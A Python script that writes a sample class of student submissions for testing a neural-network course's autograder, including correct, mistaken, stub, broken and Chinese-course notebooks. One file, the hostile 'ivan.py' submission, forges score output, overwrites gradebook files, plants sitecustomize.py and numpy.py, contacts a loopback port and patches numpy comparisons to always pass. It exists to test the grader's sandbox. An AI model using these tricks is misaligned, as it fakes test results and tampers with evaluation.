"""Write course_data/sample_submissions/: a small class with a realistic spread of work.

    python -m course_data.make_sample_submissions

Twenty-two students: complete and correct work (a .py module, one notebook, five stage
notebooks), partly correct work with the mistakes students really make, untouched stubs,
a notebook with one broken cell, an incomplete set of stage notebooks, two notebooks and a
.py file that cannot be read, a hostile submission, four who did the "what next"
stages 6 and 7 (right, and with the catalogued mistakes), and three who took the Chinese
course (its release notebooks, as nbgrader releases them: answered right, answered with a
catalogued mistake, and untouched). sample_submissions/README.md says
what each should score and why. Everything there is written by this script; rerun it after
a change and commit the result.
"""

import json
import re
import shutil
from pathlib import Path

import nbformat

OUT = Path(__file__).resolve().parent / "sample_submissions"
COURSES = {"en": Path(__file__).resolve().parents[1] / "assignments",
           "zh": Path(__file__).resolve().parents[1] / "assignments" / "zh"}

# --- a correct solution, written the way a student would, one piece per stage -----------

IMPORTS = "import numpy as np\n"

SIGMOID = '''
def sigmoid(z):
    return 1 / (1 + np.exp(-z))


def sigmoid_derivative(z):
    s = sigmoid(z)
    return s * (1 - s)
'''

FEEDFORWARD = '''
def feedforward(X, W1, W2):
    A1 = sigmoid(X @ W1)
    Y_hat = sigmoid(A1 @ W2)
    return A1, Y_hat
'''

LOSS = '''
def sse_loss(Y_hat, Y):
    return float(np.sum((Y - Y_hat) ** 2))
'''

BACKPROP = '''
def backprop(X, Y, W1, W2):
    Z1 = X @ W1
    A1 = sigmoid(Z1)
    Z2 = A1 @ W2
    Y_hat = sigmoid(Z2)
    delta2 = 2 * (Y - Y_hat) * sigmoid_derivative(Z2)
    delta1 = (delta2 @ W2.T) * sigmoid_derivative(Z1)
    dW2 = -(A1.T @ delta2)
    dW1 = -(X.T @ delta1)
    return dW1, dW2
'''

TRAINING = '''
def train(X, Y, W1, W2, iterations=1500, learning_rate=1.0):
    W1 = W1.copy()
    W2 = W2.copy()
    losses = []
    for _ in range(iterations):
        losses.append(sse_loss(feedforward(X, W1, W2)[1], Y))
        dW1, dW2 = backprop(X, Y, W1, W2)
        W1 = W1 - learning_rate * dW1
        W2 = W2 - learning_rate * dW2
    return W1, W2, np.array(losses)


class NeuralNetwork:
    def __init__(self, x, y):
        self.input = x
        self.weights1 = np.random.rand(self.input.shape[1], 4)
        self.weights2 = np.random.rand(4, 1)
        self.y = y
        self.output = np.zeros(self.y.shape)

    def feedforward(self):
        self.layer1, self.output = feedforward(self.input, self.weights1, self.weights2)

    def backprop(self, learning_rate=1.0):
        dW1, dW2 = backprop(self.input, self.y, self.weights1, self.weights2)
        self.weights1 = self.weights1 - learning_rate * dW1
        self.weights2 = self.weights2 - learning_rate * dW2
'''

# --- the "what next" stages, 6 and 7, as a student would write them ----------------------

ACTIVATIONS = '''
def tanh(z):
    return np.tanh(z)


def tanh_derivative(z):
    t = np.tanh(z)
    return 1 - t ** 2


def relu(z):
    return np.maximum(0, z)


def relu_derivative(z):
    return (z > 0).astype(float)


def leaky_relu(z, alpha=0.01):
    return np.where(z > 0, z, alpha * z)


def leaky_relu_derivative(z, alpha=0.01):
    return np.where(z > 0, 1.0, alpha)
'''

BIASES = '''
FUNCTIONS = {
    "sigmoid": (sigmoid, sigmoid_derivative),
    "tanh": (tanh, tanh_derivative),
    "relu": (relu, relu_derivative),
    "leaky_relu": (leaky_relu, leaky_relu_derivative),
}


def feedforward_with_bias(X, W1, b1, W2, b2, activation="sigmoid"):
    f, _ = FUNCTIONS[activation]
    A1 = f(X @ W1 + b1)
    Y_hat = sigmoid(A1 @ W2 + b2)
    return A1, Y_hat


def backprop_with_bias(X, Y, W1, b1, W2, b2, activation="sigmoid"):
    f, df = FUNCTIONS[activation]
    Z1 = X @ W1 + b1
    A1 = f(Z1)
    Z2 = A1 @ W2 + b2
    dZ2 = -2 * (Y - sigmoid(Z2)) * sigmoid_derivative(Z2)
    dZ1 = (dZ2 @ W2.T) * df(Z1)
    dW2 = A1.T @ dZ2
    db2 = dZ2.sum(axis=0, keepdims=True)
    dW1 = X.T @ dZ1
    db1 = dZ1.sum(axis=0, keepdims=True)
    return dW1, db1, dW2, db2


def train_with_bias(X, Y, W1, b1, W2, b2, activation="sigmoid", learning_rate=1.0,
                    iterations=1500):
    W1, b1, W2, b2 = W1.copy(), b1.copy(), W2.copy(), b2.copy()
    losses = []
    for _ in range(iterations):
        losses.append(sse_loss(feedforward_with_bias(X, W1, b1, W2, b2, activation)[1], Y))
        dW1, db1, dW2, db2 = backprop_with_bias(X, Y, W1, b1, W2, b2, activation)
        W1 = W1 - learning_rate * dW1
        b1 = b1 - learning_rate * db1
        W2 = W2 - learning_rate * dW2
        b2 = b2 - learning_rate * db2
    return W1, b1, W2, b2, np.array(losses)
'''

CLASSIFIER = '''
def softmax(Z):
    E = np.exp(Z - Z.max(axis=1, keepdims=True))
    return E / E.sum(axis=1, keepdims=True)


def cross_entropy(P, labels):
    n = P.shape[0]
    return float(-np.mean(np.log(P[np.arange(n), labels])))


def forward_classifier(X, W1, b1, W2, b2):
    A1 = np.tanh(X @ W1 + b1)
    P = softmax(A1 @ W2 + b2)
    return A1, P


def backprop_classifier(X, labels, W1, b1, W2, b2):
    n, k = X.shape[0], W2.shape[1]
    A1, P = forward_classifier(X, W1, b1, W2, b2)
    T = np.eye(k)[labels]
    dZ2 = (P - T) / n
    dZ1 = (dZ2 @ W2.T) * (1 - A1 ** 2)
    return X.T @ dZ1, dZ1.sum(axis=0, keepdims=True), A1.T @ dZ2, dZ2.sum(axis=0, keepdims=True)


def train_classifier(X, labels, W1, b1, W2, b2, learning_rate=0.5, iterations=2000):
    params = [W1.copy(), b1.copy(), W2.copy(), b2.copy()]
    losses = []
    for _ in range(iterations):
        losses.append(cross_entropy(forward_classifier(X, *params)[1], labels))
        grads = backprop_classifier(X, labels, *params)
        params = [p - learning_rate * g for p, g in zip(params, grads)]
    return (*params, np.array(losses))


def predict(X, W1, b1, W2, b2):
    return np.argmax(forward_classifier(X, W1, b1, W2, b2)[1], axis=1)


def accuracy(predicted, labels):
    return float(np.mean(predicted == labels))
'''

EXTENSION_PIECES = {6: ACTIVATIONS + BIASES, 7: CLASSIFIER}
EXTENSION_NAMES = {6: "06_activations", 7: "07_classifier"}


def extension_notebooks(pieces: dict[int, str]) -> dict[str, str]:
    """The stage 6 and 7 notebooks: the course's sigmoid and loss given, then the student's code."""
    given = {6: SIGMOID + LOSS, 7: ""}
    out = {}
    for stage, piece in pieces.items():
        cells = [("md", f"# Stage {stage}: {EXTENSION_NAMES[stage][3:]}"), ("code", IMPORTS)]
        if given[stage]:
            cells.append(("code", given[stage]))
        cells.append(("code", piece))
        out[f"{EXTENSION_NAMES[stage]}.ipynb"] = notebook(cells)
    return out


PIECES = [SIGMOID, FEEDFORWARD, LOSS, BACKPROP, TRAINING]
CORRECT = IMPORTS + "".join(PIECES)
STAGE_NAMES = ["01_sigmoid", "02_feedforward", "03_loss", "04_backprop", "05_training"]

DATA = '''
X = np.array([[0, 0, 1], [0, 1, 1], [1, 0, 1], [1, 1, 1]], dtype=float)
Y = np.array([[0], [1], [1], [0]], dtype=float)
'''

PLOT = '''
import matplotlib.pyplot as plt

W1, W2, losses = train(X, Y, np.random.rand(3, 4), np.random.rand(4, 1))
plt.plot(losses)
plt.yscale("log")
plt.show()
'''

STUBS = '''
import numpy as np


def sigmoid(z):
    # YOUR CODE HERE
    raise NotImplementedError()


def sigmoid_derivative(z):
    # YOUR CODE HERE
    raise NotImplementedError()


def feedforward(X, W1, W2):
    # YOUR CODE HERE
    raise NotImplementedError()


def sse_loss(Y_hat, Y):
    # YOUR CODE HERE
    raise NotImplementedError()


def backprop(X, Y, W1, W2):
    # YOUR CODE HERE
    raise NotImplementedError()


def train(X, Y, W1, W2, iterations=1500, learning_rate=1.0):
    # YOUR CODE HERE
    raise NotImplementedError()


class NeuralNetwork:
    def __init__(self, x, y):
        # YOUR CODE HERE
        raise NotImplementedError()
'''

#: The loopback port ivan phones home to. Nothing serves it; the test that shows the sandbox
#: cuts him off (tests/test_sandbox_hostile.py) listens on it itself. On the grader's own
#: loopback, so no attempt of the sample class ever leaves the machine.
PHONE_HOME_PORT = 27182

HOSTILE = '''
"""Tries every trick it can think of; none of them may earn a point or disturb the grader."""
import json
import os
import socket
import sys

import numpy as np

# A forged Gradescope result on stdout, and forged result files wherever it can write.
print(json.dumps({"score": 1000, "max_score": 30, "tests": []}))
for name in ("results.json", "gradebook.csv", "sitecustomize.py", "numpy.py",
             "../results.json", "../../gradebook.csv"):
    try:
        with open(name, "w") as handle:
            handle.write("import os\\nos.system('echo pwned')\\n")
    except OSError:
        pass

# Peek at the reference solution and the hidden checks, if they are anywhere in sight.
for root in ("/work", os.path.expanduser("~"), "..", "../.."):
    try:
        print(os.listdir(root)[:20])
    except OSError:
        pass

# Phone home (a server on the grader's machine, if the sandbox lets it through).
try:
    with socket.create_connection(("127.0.0.1", PHONE_HOME_PORT), timeout=0.2) as home:
        home.sendall(b"ivan was here")
except OSError:
    pass

# Make every comparison pass, in this process at least.
np.testing.assert_allclose = lambda *args, **kwargs: None
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda *args, **kwargs: True


class Always(float):
    """A float that equals everything."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__


class Anything:
    """Claims to be any array you like."""

    def __array__(self, dtype=None, copy=None):
        return np.zeros((4, 1))

    def __eq__(self, other):
        return True

    shape = (4, 1)


def sigmoid(z):
    return Always(0.5)


def sigmoid_derivative(z):
    return Always(0.25)


def feedforward(X, W1, W2):
    return Anything(), Anything()


def sse_loss(Y_hat, Y):
    return Anything()


def backprop(X, Y, W1, W2):
    sys.stdout.write('{"status": "passed"}\\n' * 1000)
    return Anything(), Anything()


def train(X, Y, W1, W2, iterations=1500, learning_rate=1.0):
    os.system("echo training finished: 100 percent")
    return Anything(), Anything(), Anything()
'''.replace("PHONE_HOME_PORT", str(PHONE_HOME_PORT))


def broken_cell(code: str) -> str:
    """The backprop cell with a typo that makes it a syntax error."""
    return code.replace("def backprop(X, Y, W1, W2):", "def backprop(X, Y, W1, W2)")


def mistaken(code: str, *replacements: tuple[str, str]) -> str:
    """`code` with each (old, new) replacement made; each `old` must occur in it."""
    for old, new in replacements:
        if old not in code:
            raise ValueError(f"not in the code: {old!r}")
        code = code.replace(old, new)
    return code


# --- students of the Chinese course: its release notebooks, answered ------------------------

#: The answers of a student of the Chinese course, per solution cell (nbgrader grade_id): the
#: code that replaces each of the cell's stubs, in order. Comments in Chinese, as they would
#: write them; the code is the same as the English students'.
ZH_ANSWERS: dict[str, list[str]] = {
    "sigmoid": ["# 直接按公式计算\nreturn 1 / (1 + np.exp(-z))"],
    "sigmoid_derivative": ["s = sigmoid(z)\nreturn s * (1 - s)  # 斜率 = s(1 - s)"],
    "feedforward": ["A1 = sigmoid(X @ W1)  # 隐藏层\nY_hat = sigmoid(A1 @ W2)  # 输出层\n"
                    "return A1, Y_hat"],
    "sse_loss": ["# 误差平方和：所有元素加起来\nreturn float(np.sum((Y - Y_hat) ** 2))"],
    "backprop": ["""# 先做一遍前向传播
Z1 = X @ W1
A1 = sigmoid(Z1)
Z2 = A1 @ W2
Y_hat = sigmoid(Z2)
# 链式法则，从输出层往回算
delta2 = 2 * (Y - Y_hat) * sigmoid_derivative(Z2)
delta1 = (delta2 @ W2.T) * sigmoid_derivative(Z1)
dW2 = -(A1.T @ delta2)
dW1 = -(X.T @ delta1)
return dW1, dW2"""],
    "train": ["""W1 = W1.copy()  # 不改动传进来的权值
W2 = W2.copy()
losses = []
for _ in range(iterations):
    losses.append(sse_loss(feedforward(X, W1, W2)[1], Y))  # 更新之前的损失
    dW1, dW2 = backprop(X, Y, W1, W2)
    W1 = W1 - learning_rate * dW1
    W2 = W2 - learning_rate * dW2
return W1, W2, np.array(losses)"""],
    "NeuralNetwork": [
        """self.input = x
self.y = y
self.weights1 = np.random.rand(self.input.shape[1], 4)
self.weights2 = np.random.rand(4, 1)
self.output = np.zeros(self.y.shape)""",
        "self.layer1, self.output = feedforward(self.input, self.weights1, self.weights2)",
        """dW1, dW2 = backprop(self.input, self.y, self.weights1, self.weights2)
self.weights1 = self.weights1 - learning_rate * dW1  # 梯度下降一步
self.weights2 = self.weights2 - learning_rate * dW2"""],
}

# A stub nbgrader puts in place of a solution (either language's comment), and its indent.
_STUB = re.compile(r"^([ \t]*)#[^\n]*YOUR CODE HERE[^\n]*\n[ \t]*raise NotImplementedError\(\)$",
                   re.MULTILINE)


def release_notebook(stage: int, lang: str) -> nbformat.NotebookNode:
    """The stage's notebook as `nbgrader generate_assignment` releases it from the course of
    `lang` ("en" or "zh"): nbgrader's own preprocessors, in its order, with the course's
    config (its Chinese stub included); only the gradebook step is left out."""
    from nbgrader.preprocessors import (
        CheckCellMetadata,
        ClearHiddenTests,
        ClearMarkScheme,
        ClearOutput,
        ClearSolutions,
        ComputeChecksums,
        IncludeHeaderFooter,
        LockCells,
    )
    from traitlets.config.loader import PyFileConfigLoader

    course = COURSES[lang]
    config = PyFileConfigLoader("nbgrader_config.py", path=str(course)).load_config()
    name = STAGE_NAMES[stage - 1]
    nb = nbformat.read(course / "source" / name / f"{name}.ipynb", as_version=4)
    resources: dict = {}
    for step in (IncludeHeaderFooter, LockCells, ClearSolutions, ClearOutput, CheckCellMetadata,
                 ComputeChecksums, ClearHiddenTests, ClearMarkScheme, ComputeChecksums,
                 CheckCellMetadata):
        nb, resources = step(config=config).preprocess(nb, resources)
    return nb


def answered(nb: nbformat.NotebookNode, answers: dict[str, list[str]]) -> str:
    """The released notebook `nb` with its stubs replaced by the student's code: each solution
    cell's stubs, in order, by `answers[grade_id]` (indented to the stub's depth). Every
    solution cell must have its answers and every answer a stub, or ValueError."""
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if not cell.metadata.get("nbgrader", {}).get("solution"):
            continue
        stubs = _STUB.findall(cell.source)
        if grade_id not in answers or len(answers[grade_id]) != len(stubs):
            raise ValueError(f"{grade_id}: {len(stubs)} stubs, answers {answers.get(grade_id)}")
        cell.source = _STUB.sub(_filler(iter(answers[grade_id])), cell.source)
    return nbformat.writes(nb) + "\n"


def _filler(bodies):
    """re.sub's replacement: the next body, indented as the stub it replaces."""
    def fill(stub: re.Match) -> str:
        return "\n".join(stub.group(1) + line if line else line
                         for line in next(bodies).split("\n"))
    return fill


def release_answered(stages: range, lang: str,
                     answers: dict[str, list[str]] | None) -> dict[str, str]:
    """File name -> the stage's release notebook in `lang`, answered (answers None: handed
    in untouched, stubs and all), for each stage."""
    out = {}
    for stage in stages:
        nb = release_notebook(stage, lang)
        out[f"{STAGE_NAMES[stage - 1]}.ipynb"] = \
            nbformat.writes(nb) + "\n" if answers is None else answered(nb, answers)
    return out


ZH_FACTOR_2_MISSING = {**ZH_ANSWERS, "backprop": [mistaken(
    ZH_ANSWERS["backprop"][0], ("delta2 = 2 * (Y - Y_hat)", "delta2 = (Y - Y_hat)"))]}


# --- writing --------------------------------------------------------------------------------

def notebook(cells: list[tuple[str, str]], stage: int | None = None) -> str:
    """An nbformat-4 notebook from (kind, text) pairs; kind is "md" or "code"."""
    nb = nbformat.v4.new_notebook()
    nb.metadata = {"kernelspec": {"display_name": "Python 3 (ipykernel)", "language": "python",
                                  "name": "python3"},
                   "language_info": {"name": "python"}}
    for index, (kind, text) in enumerate(cells):
        make = nbformat.v4.new_markdown_cell if kind == "md" else nbformat.v4.new_code_cell
        cell = make(text.strip("\n"))
        cell.id = f"cell-{index:02d}"
        nb.cells.append(cell)
    nbformat.validate(nb)
    return nbformat.writes(nb) + "\n"


def whole_course_notebook(pieces: list[str], extra: list[tuple[str, str]] = ()) -> str:
    """One notebook with every stage: a markdown heading, then the stage's code cell."""
    cells = [("md", "# Neural networks from scratch"), ("code", IMPORTS + DATA)]
    for name, piece in zip(STAGE_NAMES, pieces, strict=True):
        cells += [("md", f"## {name}"), ("code", piece)]
    return notebook(cells + list(extra))


def stage_notebooks(pieces: list[str], stages: range) -> dict[str, str]:
    """One notebook per stage; each repeats the earlier stages' code as given code."""
    out = {}
    for stage in stages:
        given = "".join(pieces[: stage - 1])
        cells = [("md", f"# Stage {stage}: {STAGE_NAMES[stage - 1][3:]}"),
                 ("code", IMPORTS + DATA)]
        if given:
            cells.append(("code", given))
        cells.append(("code", pieces[stage - 1]))
        out[f"{STAGE_NAMES[stage - 1]}.ipynb"] = notebook(cells)
    return out


def class_files() -> dict[str, str | bytes]:
    """Relative path -> content for every file of the sample class."""
    files: dict[str, str | bytes] = {}
    # Complete and correct, three ways.
    files["ada.py"] = CORRECT + '\n\nif __name__ == "__main__":\n' \
        '    W1, W2, losses = train(np.eye(3), np.ones((3, 1)), np.ones((3, 4)), np.ones((4, 1)))\n'
    files["ben.ipynb"] = whole_course_notebook(PIECES, [
        ("code", "%matplotlib inline\n!pip install numpy\n" + PLOT),
        ("code", "%%bash\necho 'shell cells are never run by the grader'\n")])
    for name, text in stage_notebooks(PIECES, range(1, 6)).items():
        files[f"chen/{name}"] = text
    # Partly correct: the mistakes students really make.
    files["dara.ipynb"] = whole_course_notebook([
        SIGMOID, FEEDFORWARD,
        mistaken(LOSS, ("np.sum((Y - Y_hat) ** 2)", "np.mean((Y - Y_hat) ** 2)")),
        mistaken(BACKPROP, ("dW2 = -(A1.T @ delta2)", "dW2 = A1.T @ delta2"),
                 ("dW1 = -(X.T @ delta1)", "dW1 = X.T @ delta1")),
        TRAINING])
    files["eli.py"] = IMPORTS + mistaken(
        SIGMOID, ("s = sigmoid(z)\n    return s * (1 - s)", "return z * (1 - z)")) \
        + "".join(PIECES[1:])
    files["kim.py"] = IMPORTS + "".join(PIECES[:3]) + mistaken(
        BACKPROP, ("delta2 = 2 * (Y - Y_hat)", "delta2 = (Y - Y_hat)")) + TRAINING
    files["noor/network.py"] = IMPORTS + "".join(PIECES[:4]) + mistaken(
        TRAINING, ("    W1 = W1.copy()\n    W2 = W2.copy()\n", ""),
        ("W1 = W1 - learning_rate * dW1\n        W2 = W2 - learning_rate * dW2",
         "W1 -= dW1\n        W2 -= dW2"))
    # Untouched stubs.
    files["fay.ipynb"] = notebook([("md", "# My notebook"), ("code", STUBS)])
    # One broken cell: the rest still counts.
    files["gus.ipynb"] = whole_course_notebook(PIECES[:3] + [broken_cell(BACKPROP)] + PIECES[4:])
    # Only the first three stage notebooks.
    for name, text in stage_notebooks(PIECES, range(1, 4)).items():
        files[f"jo/{name}"] = text
    # Broken files.
    good = whole_course_notebook(PIECES)
    files["hana.ipynb"] = good[: len(good) // 2]  # cut short: not JSON
    files["lou.ipynb"] = json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {},
                                     "worksheets": [{"cells": [{"cell_type": "code",
                                                                "input": CORRECT}]}]})
    files["pat.py"] = ("# Réseau de neurones, écrit par Pat\n" + CORRECT).encode("latin-1")
    # Hostile.
    files["ivan.py"] = HOSTILE
    # A student with correct code in a different style (a loop-free class, numbers named).
    files["mia.py"] = CORRECT.replace("A1", "hidden").replace("Y_hat", "prediction")
    # The "what next" stages 6 and 7: right, and with the catalogued mistakes.
    for name, text in extension_notebooks(EXTENSION_PIECES).items():
        files[f"quinn/{name}"] = text
    files["rosa.py"] = CORRECT + ACTIVATIONS + BIASES + CLASSIFIER
    files["sam.py"] = CORRECT + ACTIVATIONS + mistaken(
        BIASES, ("db2 = dZ2.sum(axis=0, keepdims=True)", "db2 = dZ2"),
        ("db1 = dZ1.sum(axis=0, keepdims=True)", "db1 = dZ1")) + mistaken(
        CLASSIFIER, ("E = np.exp(Z - Z.max(axis=1, keepdims=True))", "E = np.exp(Z)"))
    for name, text in extension_notebooks({
            6: mistaken(ACTIVATIONS, ("t = np.tanh(z)\n    return 1 - t ** 2",
                                      "return 1 - z ** 2")) + BIASES,
            7: mistaken(CLASSIFIER, ("T = np.eye(k)[labels]", "T = labels.reshape(-1, 1)"))
    }).items():
        files[f"tess/{name}"] = text
    # The Chinese course: its release notebooks, answered (right, and one catalogued mistake).
    for name, text in release_answered(range(1, 6), "zh", ZH_ANSWERS).items():
        files[f"王芳/{name}"] = text
    for name, text in release_answered(range(1, 6), "zh", ZH_FACTOR_2_MISSING).items():
        files[f"li_ming/{name}"] = text
    for name, text in release_answered(range(1, 6), "zh", None).items():
        files[f"张伟/{name}"] = text
    return files


def main() -> None:
    if OUT.exists():
        for path in OUT.iterdir():
            if path.name != "README.md":
                shutil.rmtree(path) if path.is_dir() else path.unlink()
    for relative, content in class_files().items():
        path = OUT / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    print(f"wrote {len(class_files())} files to {OUT}")


if __name__ == "__main__":
    main()
